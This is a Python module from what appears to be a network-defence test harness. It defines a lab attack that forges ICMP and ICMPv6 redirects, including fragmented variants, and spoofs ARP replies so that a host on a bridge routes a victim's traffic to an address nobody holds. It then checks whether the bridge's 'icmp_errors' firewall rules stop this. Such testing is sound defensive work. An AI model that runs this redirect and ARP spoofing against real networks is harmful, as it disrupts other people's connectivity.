"""A neighbour tells the host of a better router for a victim.

The victim's address is not of the bridge's own network: the host reaches it by a router beyond the uplink. The forger speaks as that router does,
names an address that is nobody's, and answers for that address as long as it takes to be believed. Afterwards nobody answers there. So does a
machine on the LAN. Gained: a host that finds no hardware address for its replies to the victim, and so sends none. In the way: the host takes no
redirects from a bridge (chain `icmp_errors`).
"""

import struct
import time
from typing import ClassVar

import attack
import field as fields
import rules
import space
import wire
from attack import Outcome
from attacks.lib import elsewhere, errors
from attacks.redirects_sent import NOWHERE, NOWHERE_LINK
from field import METADATA, Field
from host import Host


class Attack(attack.Attack):
    """The forger, or the LAN, and a host that may be told of routers."""

    hosts = ("auto",)
    attackers = ("forger", "lan")
    has_victims = False
    proofs = (("auto", 4), ("auto", 6))
    # The address of the host that is told; its own on the bridge where there is none.
    to: ClassVar[str] = ""

    def prepare(self, host: Host) -> None:
        """Puts victim-1 behind the router."""
        elsewhere.move(host)

    def attack(self, field: Field) -> None:
        """Answers for the address at first, and redirects to it."""
        card, sent, begin = wire.Wire(), 0, time.monotonic()
        victim, nowhere = wire.ip(elsewhere.ADDRESS[field.family]), wire.ip(NOWHERE[field.family])
        own = wire.ip(self.to or {4: "192.0.2.1", 6: "2001:db8:2::1"}[field.family])
        pair = (wire.ip(elsewhere.router(field.host, field.family)), own)
        if field.family == 4:
            gateway, = struct.unpack("!I", nowhere)
            inner = wire.ipv4(own, victim, struct.pack("!BBHHH", 0, 0, 0xFFFF, 0, 0), 1)
            messages = [(errors.message(kind, pair, inner, gateway), 64) for kind in (errors.REDIRECT4, (5, 0))]
        else:
            messages = [(errors.message((wire.REDIRECT, 0), pair, nowhere + victim + b"\x02\x01" + NOWHERE_LINK), 255)]
        link = (field.bridge, field.me.link)
        field.ready()
        while field.goes_on():
            for body, hops in messages:
                card.send(errors.frame(link, pair, body, hops), *errors.fragments(link, pair, body, 8, sent))
                if field.family == 6:
                    card.send(*errors.hidden(link, pair, body, sent, hops))
                sent += 1
            for frame in card.received(0.05):
                if time.monotonic() - begin < 1 and frame[12:14] == b"\x08\x06" and frame[38:42] == wire.ip(NOWHERE[4]):
                    card.send(wire.arp(frame[6:12], field.me.link, 2, (NOWHERE_LINK, NOWHERE[4]), (frame[6:12], wire.ip_text(frame[28:32]))))
        field.report["sent"] = sent

    def during(self, host: Host, outcome: Outcome) -> None:
        """Lets the host forget who is where, as time does, and asks as victim-1."""
        address = elsewhere.ADDRESS[outcome.family]
        time.sleep(1.5)
        outcome.host_report["way"] = space.call("ip", "route", "get", address, "oif", "br0").splitlines()[0]
        space.ip("neighbour flush dev br0")
        with space.inside(host.victims[0].name):
            outcome.host_report["status"] = fields.ask(METADATA[outcome.family], seconds=4)[0]

    def gained(self, outcome: Outcome) -> str | None:
        """A host that sends to where nobody is."""
        if any(report["sent"] < 10 for report in outcome.reports.values()):
            raise space.Failure("hardly a redirect was sent: the attack does not work")
        found = outcome.host_report
        if NOWHERE[outcome.family] in found["way"]:
            return f"the host sends to {NOWHERE[outcome.family]}; victim-1's request got status {found['status']}"
        return None if found["status"] == 200 else f"victim-1's request got status {found['status']}"

    def weaken(self, host: Host) -> None:
        """Lets the host hear."""
        rules.remove(r"redirect counter", "inet", "icmp_errors")

    def restore(self, host: Host) -> None:
        """The way of before."""
        elsewhere.undo(host)
